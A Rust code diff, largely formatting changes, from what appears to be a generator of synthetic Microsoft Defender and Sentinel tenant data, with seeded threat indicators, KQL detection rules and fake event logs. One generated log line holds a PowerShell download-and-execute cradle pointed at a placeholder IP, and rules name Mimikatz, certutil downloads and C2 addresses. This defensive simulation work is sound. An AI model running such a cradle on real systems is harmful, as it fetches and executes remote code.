+                .find(|f| f.file_name == "mimikatz.exe")
+                .map(|f| f.sha1.clone())
+                .unwrap_or_default(),
+            "FileSha1",
+            "BlockAndRemediate",
+            "Mimikatz",
+        ),
+        (
+            "https://login-micros0ft.example/owa".to_string(),
+            "Url",
+            "Warn",
+            "Phishing landing page",
+        ),
     ];
     for (value, ty, action, title) in seeded_iocs {
         next_indicator_id += 1;
@@ -576,9 +977,24 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
         });
     }
     let library = [
-        ("Collect-Triage.ps1", "Collects running processes, services, autoruns and network connections", true, Some("-OutputPath <path>")),
-        ("Get-RunningProcesses.ps1", "Lists running processes with command lines", false, None),
-        ("Remove-Persistence.ps1", "Removes a scheduled task or Run key by name", true, Some("-Name <task or value name>")),
+        (
+            "Collect-Triage.ps1",
+            "Collects running processes, services, autoruns and network connections",
+            true,
+            Some("-OutputPath <path>"),
+        ),
+        (
+            "Get-RunningProcesses.ps1",
+            "Lists running processes with command lines",
+            false,
+            None,
+        ),
+        (
+            "Remove-Persistence.ps1",
+            "Removes a scheduled task or Run key by name",
+            true,
+            Some("-Name <task or value name>"),
+        ),
     ]
     .into_iter()
     .map(|(name, desc, has_params, params)| {
@@ -602,10 +1018,34 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
     let mut next_rule_id = 100 + rng.random_range(0..800u64);
     let mut detection_rules = Vec::new();
     for (name, query, period, severity, enabled) in [
-        ("Encoded PowerShell", "DeviceProcessEvents | where FileName =~ 'powershell.exe' and ProcessCommandLine has '-enc' | project Timestamp, DeviceId, DeviceName, ReportId, ProcessCommandLine", "1H", "medium", true),
-        ("Certutil download", "DeviceProcessEvents | where FileName =~ 'certutil.exe' and ProcessCommandLine has 'urlcache' | project Timestamp, DeviceId, DeviceName, ReportId", "3H", "medium", true),
-        ("Connection to known C2", "DeviceNetworkEvents | where RemoteIP in ('203.0.113.50', '203.0.113.77') | project Timestamp, DeviceId, DeviceName, ReportId, RemoteIP", "0", "high", true),
-        ("Legacy rule - disabled", "DeviceLogonEvents | where ActionType == 'LogonFailed' | summarize count() by DeviceId | where count_ > 50", "24H", "low", false),
+        (
+            "Encoded PowerShell",
+            "DeviceProcessEvents | where FileName =~ 'powershell.exe' and ProcessCommandLine has '-enc' | project Timestamp, DeviceId, DeviceName, ReportId, ProcessCommandLine",
+            "1H",
+            "medium",
+            true,
+        ),
+        (
+            "Certutil download",
+            "DeviceProcessEvents | where FileName =~ 'certutil.exe' and ProcessCommandLine has 'urlcache' | project Timestamp, DeviceId, DeviceName, ReportId",
+            "3H",
+            "medium",
+            true,
+        ),
+        (
+            "Connection to known C2",
+            "DeviceNetworkEvents | where RemoteIP in ('203.0.113.50', '203.0.113.77') | project Timestamp, DeviceId, DeviceName, ReportId, RemoteIP",
+            "0",
+            "high",
+            true,
+        ),
+        (
+            "Legacy rule - disabled",
+            "DeviceLogonEvents | where ActionType == 'LogonFailed' | summarize count() by DeviceId | where count_ > 50",
+            "24H",
+            "low",
+            false,
+        ),
     ] {
         next_rule_id += 1;
         let created = ago(rng, now, Duration::days(10), Duration::days(120));
@@ -649,7 +1089,16 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
                 name: (*name).into(),
                 customer_id: guid_from(rng),
             };
-            workspace(rng, now, spec, public, location, &machines, &users, stale_first_workspace && wi == 0)
+            workspace(
+                rng,
+                now,
+                spec,
+                public,
+                location,
+                &machines,
+                &users,
+                stale_first_workspace && wi == 0,
+            )
         })
         .collect::<Vec<_>>();
 
@@ -672,6 +1121,7 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
         detection_rules,
         next_rule_id,
         workspaces,
+        arm_operations: Vec::new(),
     }
 }
 
@@ -679,9 +1129,24 @@ fn s(v: impl Into<String>) -> K {
     K::String(v.into())
 }
 
-fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], users: &[User], spec: &TenantSpec, files: &[FileInfo], alerts: &[Alert]) -> Database {
-    let onboarded: Vec<&Machine> = machines.iter().filter(|m| m.onboarding_status == "Onboarded").collect();
-    let windows: Vec<&Machine> = onboarded.iter().copied().filter(|m| m.os_platform.starts_with("Windows")).collect();
+fn hunting_tables(
+    rng: &mut StdRng,
+    now: OffsetDateTime,
+    machines: &[Machine],
+    users: &[User],
+    spec: &TenantSpec,
+    files: &[FileInfo],
+    alerts: &[Alert],
+) -> Database {
+    let onboarded: Vec<&Machine> = machines
+        .iter()
+        .filter(|m| m.onboarding_status == "Onboarded")
+        .collect();
+    let windows: Vec<&Machine> = onboarded
+        .iter()
+        .copied()
+        .filter(|m| m.os_platform.starts_with("Windows"))
+        .collect();
     let report_id = |rng: &mut StdRng| K::Long(rng.random_range(1000..9_999_999));
     let mut db = Database::default();
 
@@ -712,12 +1177,26 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
                 ("DeviceId", s(&m.id)),
                 ("DeviceName", s(&m.computer_dns_name)),
                 ("OSPlatform", s(&m.os_platform)),
-                ("OSVersion", m.os_version.clone().map(K::String).unwrap_or(K::Null)),
+                (
+                    "OSVersion",
+                    m.os_version.clone().map(K::String).unwrap_or(K::Null),
+                ),
                 ("OSBuild", m.os_build.map(K::Long).unwrap_or(K::Null)),
                 ("PublicIP", s(&m.last_external_ip_address)),
                 ("MachineGroup", s(&m.rbac_group_name)),
                 ("OnboardingStatus", s(&m.onboarding_status)),
-                ("DeviceType", s(if m.computer_dns_name.starts_with("srv") || m.computer_dns_name.starts_with("lnx") { "Server" } else { "Workstation" })),
+                (
+                    "DeviceType",
+                    s(
+                        if m.computer_dns_name.starts_with("srv")
+                            || m.computer_dns_name.starts_with("lnx")
+                        {
+                            "Server"
+                        } else {
+                            "Workstation"
+                        },
+                    ),
+                ),
                 ("SensorHealthState", s(&m.health_status)),
                 ("ExposureLevel", s(&m.exposure_level)),
                 ("IsAzureADJoined", K::Bool(m.is_aad_joined)),
@@ -750,7 +1229,10 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
             Column::new("ReportId", ColType::Long),
         ],
     );
-    let benign: Vec<&Proc> = PROCS.iter().filter(|p| !p.malicious && p.name != "certutil.exe").collect();
+    let benign: Vec<&Proc> = PROCS
+        .iter()
+        .filter(|p| !p.malicious && p.name != "certutil.exe")
+        .collect();
     for i in 0..230 {
         let m = *pick(rng, &windows);
         let u = &users[rng.random_range(0..users.len())];
@@ -768,13 +1250,30 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
             (p, p.cmd.to_string())
         };
         let f = file_of(p.name);
-        let parent = if p.name == "svchost.exe" { "services.exe" } else { *pick(rng, &["explorer.exe", "cmd.exe", "svchost.exe", "OUTLOOK.EXE"]) };
+        let parent = if p.name == "svchost.exe" {
+            "services.exe"
+        } else {
+            *pick(
+                rng,
+                &["explorer.exe", "cmd.exe", "svchost.exe", "OUTLOOK.EXE"],
+            )
+        };
         procs.push_named(vec![
-            ("Timestamp", K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7)))),
+            (
+                "Timestamp",
+                K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7))),
+            ),
             ("DeviceId", s(&m.id)),
             ("DeviceName", s(&m.computer_dns_name)),
             ("ActionType", s("ProcessCreated")),
-            ("FileName", s(if p.name == "wacatac.dll" { "rundll32.exe" } else { p.name })),
+            (
+                "FileName",
+                s(if p.name == "wacatac.dll" {
+                    "rundll32.exe"
+                } else {
+                    p.name
+                }),
+            ),
             ("FolderPath", s(format!("{}\\{}", p.folder, p.name))),
             ("SHA1", f.map(|f| s(&f.sha1)).unwrap_or(K::Null)),
             ("SHA256", f.map(|f| s(&f.sha256)).unwrap_or(K::Null)),
@@ -811,11 +1310,35 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
     );
     for i in 0..170 {
         let m = *pick(rng, &onboarded);
-        let (ip, url, port) = if i % 14 == 0 { *pick(rng, MALICIOUS_REMOTE) } else { *pick(rng, BENIGN_REMOTE) };
-        let action = if rng.random_bool(0.9) { "ConnectionSuccess" } else { "ConnectionFailed" };
-        let proc_name = if i % 14 == 0 { *pick(rng, &["svch0st.exe", "certutil.exe", "msedge.exe"]) } else { *pick(rng, &["chrome.exe", "msedge.exe", "ms-teams.exe", "OUTLOOK.EXE", "svchost.exe"]) };
+        let (ip, url, port) = if i % 14 == 0 {
+            *pick(rng, MALICIOUS_REMOTE)
+        } else {
+            *pick(rng, BENIGN_REMOTE)
+        };
+        let action = if rng.random_bool(0.9) {
+            "ConnectionSuccess"
+        } else {
+            "ConnectionFailed"
+        };
+        let proc_name = if i % 14 == 0 {
+            *pick(rng, &["svch0st.exe", "certutil.exe", "msedge.exe"])
+        } else {
+            *pick(
+                rng,
+                &[
+                    "chrome.exe",
+                    "msedge.exe",
+                    "ms-teams.exe",
+                    "OUTLOOK.EXE",
+                    "svchost.exe",
+                ],
+            )
+        };
         net.push_named(vec![
-            ("Timestamp", K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7)))),
+            (
+                "Timestamp",
+                K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7))),
+            ),
             ("DeviceId", s(&m.id)),
             ("DeviceName", s(&m.computer_dns_name)),
             ("ActionType", s(action)),
@@ -826,7 +1349,10 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
             ("LocalPort", K::Long(rng.random_range(49152..65535))),
             ("Protocol", s("Tcp")),
             ("InitiatingProcessFileName", s(proc_name)),
-            ("InitiatingProcessAccountName", s(&users[rng.random_range(0..users.len())].account)),
+            (
+                "InitiatingProcessAccountName",
+                s(&users[rng.random_range(0..users.len())].account),
+            ),
             ("ReportId", report_id(rng)),
         ]);
     }
@@ -855,23 +1381,57 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
         let u = &users[rng.random_range(0..users.len())];
         let failed = rng.random_bool(0.12);
         logons.push_named(vec![
-            ("Timestamp", K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7)))),
+            (
+                "Timestamp",
+                K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7))),
+            ),
             ("DeviceId", s(&m.id)),
             ("DeviceName", s(&m.computer_dns_name)),
-            ("ActionType", s(if failed { "LogonFailed" } else { "LogonSuccess" })),
-            ("LogonType", s(*pick(rng, &["Interactive", "RemoteInteractive", "Network", "Unlock"]))),
+            (
+                "ActionType",
+                s(if failed {
+                    "LogonFailed"
+                } else {
+                    "LogonSuccess"
+                }),
+            ),
+            (
+                "LogonType",
+                s(*pick(
+                    rng,
+                    &["Interactive", "RemoteInteractive", "Network", "Unlock"],
+                )),
+            ),
             ("AccountDomain", s(spec.netbios.to_lowercase())),
             ("AccountName", s(&u.account)),
             ("AccountSid", s(&u.sid)),
-            ("RemoteIP", s(format!("10.{}.{}.{}", spec.subnet, rng.random_range(1..8), rng.random_range(10..250)))),
+            (
+                "RemoteIP",
+                s(format!(
+                    "10.{}.{}.{}",
+                    spec.subnet,
+                    rng.random_range(1..8),
+                    rng.random_range(10..250)
+                )),
+            ),
             ("RemoteDeviceName", K::Null),
-            ("FailureReason", if failed { s("InvalidUserNameOrPassword") } else { K::Null }),
+            (
+                "FailureReason",
+                if failed {
+                    s("InvalidUserNameOrPassword")
+                } else {
+                    K::Null
+                },
+            ),
             ("IsLocalAdmin", K::Bool(u.admin)),
             ("ReportId", report_id(rng)),
         ]);
     }
     // A brute-force burst against a server from a malicious address.
-    if let Some(target) = windows.iter().find(|m| m.computer_dns_name.starts_with("srv")) {
+    if let Some(target) = windows
+        .iter()
+        .find(|m| m.computer_dns_name.starts_with("srv"))
+    {
         let start = ago(rng, now, Duration::hours(6), Duration::days(2));
         for k in 0..14 {
             logons.push_named(vec![
@@ -913,21 +1473,48 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
     );
     for i in 0..110 {
         let m = *pick(rng, &windows);
-        let p = if i % 9 == 0 { &PROCS[*pick(rng, &[10usize, 11, 12, 13])] } else { &PROCS[*pick(rng, &[0usize, 1, 3, 4, 7])] };
+        let p = if i % 9 == 0 {
+            &PROCS[*pick(rng, &[10usize, 11, 12, 13])]
+        } else {
+            &PROCS[*pick(rng, &[0usize, 1, 3, 4, 7])]
+        };
         let f = file_of(p.name);
         fevents.push_named(vec![
-            ("Timestamp", K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7)))),
+            (
+                "Timestamp",
+                K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7))),
+            ),
             ("DeviceId", s(&m.id)),
             ("DeviceName", s(&m.computer_dns_name)),
-            ("ActionType", s(*pick(rng, &["FileCreated", "FileModified", "FileRenamed", "FileDeleted"]))),
+            (
+                "ActionType",
+                s(*pick(
+                    rng,
+                    &["FileCreated", "FileModified", "FileRenamed", "FileDeleted"],
+                )),
+            ),
             ("FileName", s(p.name)),
             ("FolderPath", s(format!("{}\\{}", p.folder, p.name))),
             ("SHA1", f.map(|f| s(&f.sha1)).unwrap_or(K::Null)),
             ("SHA256", f.map(|f| s(&f.sha256)).unwrap_or(K::Null)),
             ("MD5", f.map(|f| s(&f.md5)).unwrap_or(K::Null)),
             ("FileSize", f.map(|f| K::Long(f.size)).unwrap_or(K::Null)),
-            ("InitiatingProcessFileName", s(*pick(rng, &["explorer.exe", "msedge.exe", "OUTLOOK.EXE", "powershell.exe"]))),
-            ("InitiatingProcessAccountName", s(&users[rng.random_range(0..users.len())].account)),
+            (
+                "InitiatingProcessFileName",
+                s(*pick(
+                    rng,
+                    &[
+                        "explorer.exe",
+                        "msedge.exe",
+                        "OUTLOOK.EXE",
+                        "powershell.exe",
+                    ],
+                )),
+            ),
+            (
+                "InitiatingProcessAccountName",
+                s(&users[rng.random_range(0..users.len())].account),
+            ),
             ("ReportId", report_id(rng)),
         ]);
     }
@@ -969,8 +1556,18 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
             ("Category", s(&a.category)),
             ("Severity", s(&a.severity)),
             ("ServiceSource", s("Microsoft Defender for Endpoint")),
-            ("DetectionSource", s(if a.detection_source == "WindowsDefenderAv" { "Antivirus" } else { "EDR" })),
-            ("AttackTechniques", s(format!("[\"{}\"]", a.mitre_techniques.join("\",\"")))),
+            (
+                "DetectionSource",
+                s(if a.detection_source == "WindowsDefenderAv" {
+                    "Antivirus"
+                } else {
+                    "EDR"
+                }),
+            ),
+            (
+                "AttackTechniques",
+                s(format!("[\"{}\"]", a.mitre_techniques.join("\",\""))),
+            ),
         ]);
         aevidence.push_named(vec![
             ("Timestamp", K::DateTime(a.alert_creation_time)),
@@ -980,9 +1577,18 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
             ("EvidenceRole", s("Impacted")),
             ("DeviceId", s(&a.machine_id)),
             ("DeviceName", s(&a.computer_dns_name)),
-            ("SHA1", a.related_sha1.clone().map(K::String).unwrap_or(K::Null)),
-            ("RemoteIP", a.related_ip.clone().map(K::String).unwrap_or(K::Null)),
-            ("RemoteUrl", a.related_domain.clone().map(K::String).unwrap_or(K::Null)),
+            (
+                "SHA1",
+                a.related_sha1.clone().map(K::String).unwrap_or(K::Null),
+            ),
+            (
+                "RemoteIP",
+                a.related_ip.clone().map(K::String).unwrap_or(K::Null),
+            ),
+            (
+                "RemoteUrl",
+                a.related_domain.clone().map(K::String).unwrap_or(K::Null),
+            ),
         ]);
     }
     db.insert(ainfo);
@@ -990,7 +1596,14 @@ fn hunting_tables(rng: &mut StdRng, now: OffsetDateTime, machines: &[Machine], u
     db
 }
 
-fn graph_incidents(rng: &mut StdRng, now: OffsetDateTime, spec: &TenantSpec, alerts: &[Alert], groups: &[(i64, Vec<usize>)], users: &[User]) -> Vec<Value> {
+fn graph_incidents(
+    rng: &mut StdRng,
+    now: OffsetDateTime,
+    spec: &TenantSpec,
+    alerts: &[Alert],
+    groups: &[(i64, Vec<usize>)],
+    users: &[User],
+) -> Vec<Value> {
     let rank = |s: &str| match s {
         "High" => 3,
         "Medium" => 2,
@@ -1065,28 +1678,132 @@ fn workspace(
 
     // Analytics rules.
     let rule_defs: &[(&str, &str, &str, &str)] = &[
-        ("Scheduled", "Brute force attack against a Windows server", "Medium", "SecurityEvent | where EventID == 4625 | summarize Failures = count() by Computer, IpAddress, bin(TimeGenerated, 10m) | where Failures > 10"),
-        ("Scheduled", "Sign-ins from a suspicious IP address", "High", "SigninLogs | where IPAddress in ('203.0.113.50', '203.0.113.77') | project TimeGenerated, UserPrincipalName, IPAddress, AppDisplayName"),
-        ("Scheduled", "Mass role assignment changes", "Medium", "AzureActivity | where OperationNameValue =~ 'MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE' | summarize count() by Caller, bin(TimeGenerated, 1h) | where count_ > 5"),
-        ("Scheduled", "Firewall denies to known C2", "High", "CommonSecurityLog | where DeviceAction == 'deny' and DestinationIP in ('203.0.113.50', '198.51.100.23') | summarize count() by SourceIP"),
-        ("Scheduled", "New local administrator", "Low", "SecurityEvent | where EventID == 4732 | project TimeGenerated, Computer, Account"),
-        ("Scheduled", "Failed sign-ins spike", "Low", "SigninLogs | where ResultType != '0' | summarize count() by UserPrincipalName, bin(TimeGenerated, 1h) | where count_ > 20"),
-        ("Scheduled", "Rare process on a server", "Informational", "SecurityEvent | where EventID == 4688 | summarize count() by NewProcessName | where count_ < 2"),
-        ("Scheduled", "Agent heartbeat missing", "Low", "Heartbeat | summarize LastHeartbeat = max(TimeGenerated) by Computer | where LastHeartbeat < ago(1h)"),
-        ("Scheduled", "Resource group deleted", "Medium", "AzureActivity | where OperationNameValue endswith 'RESOURCEGROUPS/DELETE' and ActivityStatusValue == 'Success'"),
-        ("Scheduled", "Privileged sign-in from a new country", "High", "SigninLogs | where UserPrincipalName startswith 'admin' | summarize dcount(Location) by UserPrincipalName"),
-        ("Scheduled", "Outbound SMB to the internet", "Medium", "CommonSecurityLog | where DestinationPort == 445 and DeviceAction == 'allow'"),
-        ("Scheduled", "Security log cleared", "High", "SecurityEvent | where EventID == 1102"),
-        ("NRT", "NRT Mimikatz command line", "High", "SecurityEvent | where EventID == 4688 and CommandLine has 'sekurlsa'"),
-        ("NRT", "NRT Sign-in by a disabled account", "Medium", "SigninLogs | where ResultType == '50057'"),
-        ("NRT", "NRT Audit policy changed", "Low", "SecurityEvent | where EventID == 4719"),
+        (
+            "Scheduled",
+            "Brute force attack against a Windows server",
+            "Medium",
+            "SecurityEvent | where EventID == 4625 | summarize Failures = count() by Computer, IpAddress, bin(TimeGenerated, 10m) | where Failures > 10",
+        ),
+        (
+            "Scheduled",
+            "Sign-ins from a suspicious IP address",
+            "High",
+            "SigninLogs | where IPAddress in ('203.0.113.50', '203.0.113.77') | project TimeGenerated, UserPrincipalName, IPAddress, AppDisplayName",
+        ),
+        (
+            "Scheduled",
+            "Mass role assignment changes",
+            "Medium",
+            "AzureActivity | where OperationNameValue =~ 'MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE' | summarize count() by Caller, bin(TimeGenerated, 1h) | where count_ > 5",
+        ),
+        (
+            "Scheduled",
+            "Firewall denies to known C2",
+            "High",
+            "CommonSecurityLog | where DeviceAction == 'deny' and DestinationIP in ('203.0.113.50', '198.51.100.23') | summarize count() by SourceIP",
+        ),
+        (
+            "Scheduled",
+            "New local administrator",
+            "Low",
+            "SecurityEvent | where EventID == 4732 | project TimeGenerated, Computer, Account",
+        ),
+        (
+            "Scheduled",
+            "Failed sign-ins spike",
+            "Low",
+            "SigninLogs | where ResultType != '0' | summarize count() by UserPrincipalName, bin(TimeGenerated, 1h) | where count_ > 20",
+        ),
+        (
+            "Scheduled",
+            "Rare process on a server",
+            "Informational",
+            "SecurityEvent | where EventID == 4688 | summarize count() by NewProcessName | where count_ < 2",
+        ),
+        (
+            "Scheduled",
+            "Agent heartbeat missing",
+            "Low",
+            "Heartbeat | summarize LastHeartbeat = max(TimeGenerated) by Computer | where LastHeartbeat < ago(1h)",
+        ),
+        (
+            "Scheduled",
+            "Resource group deleted",
+            "Medium",
+            "AzureActivity | where OperationNameValue endswith 'RESOURCEGROUPS/DELETE' and ActivityStatusValue == 'Success'",
+        ),
+        (
+            "Scheduled",
+            "Privileged sign-in from a new country",
+            "High",
+            "SigninLogs | where UserPrincipalName startswith 'admin' | summarize dcount(Location) by UserPrincipalName",
+        ),
+        (
+            "Scheduled",
+            "Outbound SMB to the internet",
+            "Medium",
+            "CommonSecurityLog | where DestinationPort == 445 and DeviceAction == 'allow'",
+        ),
+        (
+            "Scheduled",
+            "Security log cleared",
+            "High",
+            "SecurityEvent | where EventID == 1102",
+        ),
+        (
+            "NRT",
+            "NRT Mimikatz command line",
+            "High",
+            "SecurityEvent | where EventID == 4688 and CommandLine has 'sekurlsa'",
+        ),
+        (
+            "NRT",
+            "NRT Sign-in by a disabled account",
+            "Medium",
+            "SigninLogs | where ResultType == '50057'",
+        ),
+        (
+            "NRT",
+            "NRT Audit policy changed",
+            "Low",
+            "SecurityEvent | where EventID == 4719",
+        ),
         ("Fusion", "Advanced Multistage Attack Detection", "High", ""),
-        ("MicrosoftSecurityIncidentCreation", "Create incidents based on Microsoft Defender for Endpoint alerts", "Medium", "Microsoft Defender Advanced Threat Protection"),
-        ("MicrosoftSecurityIncidentCreation", "Create incidents based on Microsoft Entra ID Protection alerts", "Medium", "Azure Active Directory Identity Protection"),
-        ("Scheduled", "Suspicious PowerShell download cradle", "Medium", "SecurityEvent | where EventID == 4688 and CommandLine has 'DownloadString'"),
-        ("Scheduled", "Excessive account lockouts", "Low", "SecurityEvent | where EventID == 4740 | summarize count() by TargetAccount"),
+        (
+            "MicrosoftSecurityIncidentCreation",
+            "Create incidents based on Microsoft Defender for Endpoint alerts",
+            "Medium",
+            "Microsoft Defender Advanced Threat Protection",
+        ),
+        (
+            "MicrosoftSecurityIncidentCreation",
+            "Create incidents based on Microsoft Entra ID Protection alerts",
+            "Medium",
+            "Azure Active Directory Identity Protection",
+        ),
+        (
+            "Scheduled",
+            "Suspicious PowerShell download cradle",
+            "Medium",
+            "SecurityEvent | where EventID == 4688 and CommandLine has 'DownloadString'",
+        ),
+        (
+            "Scheduled",
+            "Excessive account lockouts",
+            "Low",
+            "SecurityEvent | where EventID == 4740 | summarize count() by TargetAccount",
+        ),
     ];
-    let tactics = ["InitialAccess", "Execution", "Persistence", "CredentialAccess", "Discovery", "LateralMovement", "CommandAndControl", "Impact"];
+    let tactics = [
+        "InitialAccess",
+        "Execution",
+        "Persistence",
+        "CredentialAccess",
+        "Discovery",
+        "LateralMovement",
+        "CommandAndControl",
+        "Impact",
+    ];
     let mut alert_rules = Vec::new();
     for (i, (kind, name, severity, query)) in rule_defs.iter().enumerate() {
         let rule_id = guid_from(rng);
@@ -1185,7 +1902,11 @@ fn workspace(
         let modified = created + Duration::minutes(rng.random_range(0..600)).min(now - created);
         let status = *pick(rng, &["New", "New", "Active", "Closed"]);
         let severity = *pick(rng, &["High", "Medium", "Medium", "Low", "Informational"]);
-        let owner = if status == "New" { None } else { Some(&users[rng.random_range(0..users.len())]) };
+        let owner = if status == "New" {
+            None
+        } else {
+            Some(&users[rng.random_range(0..users.len())])
+        };
         let rule = &alert_rules[rng.random_range(0..alert_rules.len())];
         let mut properties = json!({
             "title": *pick(rng, &titles),
@@ -1216,7 +1937,10 @@ fn workspace(
             "relatedAnalyticRuleIds": [rule["id"].clone()],
         });
         if status == "Closed" {
-            properties["classification"] = json!(*pick(rng, &["TruePositive", "BenignPositive", "FalsePositive"]));
+            properties["classification"] = json!(*pick(
+                rng,
+                &["TruePositive", "BenignPositive", "FalsePositive"]
+            ));
             properties["classificationReason"] = match properties["classification"].as_str() {
                 Some("TruePositive") => json!("SuspiciousActivity"),
                 Some("BenignPositive") => json!("SuspiciousButExpected"),
@@ -1263,15 +1987,36 @@ fn workspace(
         incidents,
         incident_comments,
         logs,
+        table_settings: HashMap::new(),
     }
 }
 
-fn log_tables(rng: &mut StdRng, now: OffsetDateTime, spec: &TenantSpec, ws: &SandboxWorkspace, machines: &[Machine], users: &[User], stale: bool) -> Database {
+fn log_tables(
+    rng: &mut StdRng,
+    now: OffsetDateTime,
+    spec: &TenantSpec,
+    ws: &SandboxWorkspace,
+    machines: &[Machine],
+    users: &[User],
+    stale: bool,
+) -> Database {
     let mut db = Database::default();
     let tenant_col = || s(&ws.customer_id);
-    let servers: Vec<&Machine> = machines.iter().filter(|m| m.os_platform.starts_with("WindowsServer")).collect();
-    let linux: Vec<&Machine> = machines.iter().filter(|m| m.os_platform == "Linux").collect();
-    let short = |m: &Machine| m.computer_dns_name.split('.').next().unwrap_or_default().to_uppercase();
+    let servers: Vec<&Machine> = machines
+        .iter()
+        .filter(|m| m.os_platform.starts_with("WindowsServer"))
+        .collect();
+    let linux: Vec<&Machine> = machines
+        .iter()
+        .filter(|m| m.os_platform == "Linux")
+        .collect();
+    let short = |m: &Machine| {
+        m.computer_dns_name
+            .split('.')
+            .next()
+            .unwrap_or_default()
+            .to_uppercase()
+    };
 
     // Heartbeat: every monitored computer, every 30 minutes for the last 12 hours.
     let mut hb = Table::new(
@@ -1292,10 +2037,20 @@ fn log_tables(rng: &mut StdRng, now: OffsetDateTime, spec: &TenantSpec, ws: &San
         for k in 0..24 {
             hb.push_named(vec![
                 ("TenantId", tenant_col()),
-                ("TimeGenerated", K::DateTime(now - Duration::minutes(30 * k + rng.random_range(0..5)))),
+                (
+                    "TimeGenerated",
+                    K::DateTime(now - Duration::minutes(30 * k + rng.random_range(0..5))),
+                ),
                 ("Computer", s(&m.computer_dns_name)),
                 ("ComputerIP", s(&m.last_ip_address)),
-                ("OSType", s(if m.os_platform == "Linux" { "Linux" } else { "Windows" })),
+                (
+                    "OSType",
+                    s(if m.os_platform == "Linux" {
+                        "Linux"
+                    } else {
+                        "Windows"
+                    }),
+                ),
                 ("Category", s("Azure Monitor Agent")),
                 ("Version", s("1.30.0.0")),
                 ("ResourceGroup", s("rg-servers")),
@@ -1328,34 +2083,77 @@ fn log_tables(rng: &mut StdRng, now: OffsetDateTime, spec: &TenantSpec, ws: &San
         (4625, "4625 - An account failed to log on."),
         (4688, "4688 - A new process has been created."),
         (4672, "4672 - Special privileges assigned to new logon."),
-        (4732, "4732 - A member was added to a security-enabled local group."),
+        (
+            4732,
+            "4732 - A member was added to a security-enabled local group.",
+        ),
         (4740, "4740 - A user account was locked out."),
     ];
     for i in 0..160 {
         let m = *pick(rng, &servers);
-        let (id, activity) = if i % 40 == 0 { events[4] } else { *pick(rng, &events[..4]) };
+        let (id, activity) = if i % 40 == 0 {
+            events[4]
+        } else {
+            *pick(rng, &events[..4])
+        };
         let u = &users[rng.random_range(0..users.len())];
         let account = format!("{}\\{}", spec.netbios, u.account);
         let (proc_name, cmd) = if id == 4688 {
-            let p = *pick(rng, &["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\svchost.exe"]);
-            let c = if p.ends_with("powershell.exe") && i % 11 == 0 { "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')" } else { "" };
+            let p = *pick(
+                rng,
+                &[
+                    "C:\\Windows\\System32\\cmd.exe",
+                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                    "C:\\Windows\\System32\\svchost.exe",
+                ],
+            );
+            let c = if p.ends_with("powershell.exe") && i % 11 == 0 {
+                "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')"
+            } else {
+                ""
+            };
             (s(p), s(c))
         } else {
             (K::Null, K::Null)
         };
         se.push_named(vec![
             ("TenantId", tenant_col()),
-            ("TimeGenerated", K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7)))),
+            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
             ("Computer", s(&m.computer_dns_name)),
             ("EventID", K::Long(id)),
             ("Activity", s(activity)),
             ("Account", s(&account)),
             ("AccountType", s("User")),
-            ("LogonType", if id == 4624 || id == 4625 { K::Long(*pick(rng, &[2, 3, 10])) } else { K::Null }),
-            ("IpAddress", if id == 4625 && i % 3 == 0 { s(MALICIOUS_REMOTE[0].0) } else { s(format!("10.{}.1.{}", spec.subnet, rng.random_range(10..250))) }),
+            (
+                "LogonType",
+                if id == 4624 || id == 4625 {
+                    K::Long(*pick(rng, &[2, 3, 10]))
+                } else {
+                    K::Null
+                },
+            ),
+            (
+                "IpAddress",
+                if id == 4625 && i % 3 == 0 {
+                    s(MALICIOUS_REMOTE[0].0)
+                } else {
+                    s(format!(
+                        "10.{}.1.{}",
+                        spec.subnet,
+                        rng.random_range(10..250)
+                    ))
+                },
+            ),
             ("NewProcessName", proc_name),
             ("CommandLine", cmd),
-            ("TargetAccount", if id == 4732 || id == 4740 { s(&account) } else { K::Null }),
+            (
+                "TargetAccount",
+                if id == 4732 || id == 4740 {
+                    s(&account)
+                } else {
+                    K::Null
+                },
+            ),
             ("Type", s("SecurityEvent")),
         ]);
     }
@@ -1385,17 +2183,71 @@ fn log_tables(rng: &mut StdRng, now: OffsetDateTime, spec: &TenantSpec, ws: &San
         let failed = suspicious || rng.random_bool(0.1);
         signin.push_named(vec![
             ("TenantId", tenant_col()),
-            ("TimeGenerated", K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7)))),
+            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
